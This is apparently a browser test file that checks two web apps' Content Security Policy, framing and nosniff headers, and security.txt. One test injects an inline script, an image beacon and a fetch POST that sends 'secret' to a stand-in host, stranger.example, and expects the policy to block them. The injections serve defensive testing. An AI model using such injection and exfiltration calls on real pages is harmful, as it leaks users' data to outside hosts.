import { urls } from '../src/ports.ts';
import { expect, test } from '../src/stack.ts';

for (const app of ['child', 'viewer'] as const) {
  test(`the ${app}'s page refuses what somebody else put into it`, async ({ page, refusedByPolicy }) => {
    await page.goto(urls[app]);
    await page.getByRole('heading', { level: 1 }).waitFor();
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.strangerWasHere = true';
      const picture = document.createElement('img');
      picture.src = 'https://stranger.example/?what=secret';
      document.body.append(script, picture);
      document.body.setAttribute('style', 'display: none');
      await fetch('https://stranger.example/', { method: 'POST', body: 'secret' }).catch(() => undefined);
      return 'strangerWasHere' in window;
    });
    expect(ran).toBe(false);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    // The other journeys rely on this list to find what the apps themselves do wrong.
    for (const what of [/inline script/, /inline style/, /Loading the image/, /Connecting to/])
      await expect.poll(() => refusedByPolicy.some((message) => what.test(message))).toBe(true);
    refusedByPolicy.length = 0;
  });

  test(`nobody puts the ${app}'s page into a frame of theirs`, async ({ request }) => {
    const headers = (await request.get(urls[app])).headers();
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers['content-security-policy']).toContain(`connect-src 'self' ${urls.api};`);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['x-frame-options']).toBe('DENY');
  });

  test(`the ${app}'s host says whom to write to about a hole`, async ({ request }) => {
    const reply = await request.get(`${urls[app]}/.well-known/security.txt`);
    expect(reply.status()).toBe(200);
    const text = await reply.text();
    expect(text).toMatch(/^Contact: mailto:\S+@\S+\nExpires: \S+\nPreferred-Languages: sv, en\n$/);
    expect(new Date(/Expires: (\S+)/.exec(text)![1]!).getTime()).toBeGreaterThan(Date.now());
  });
}
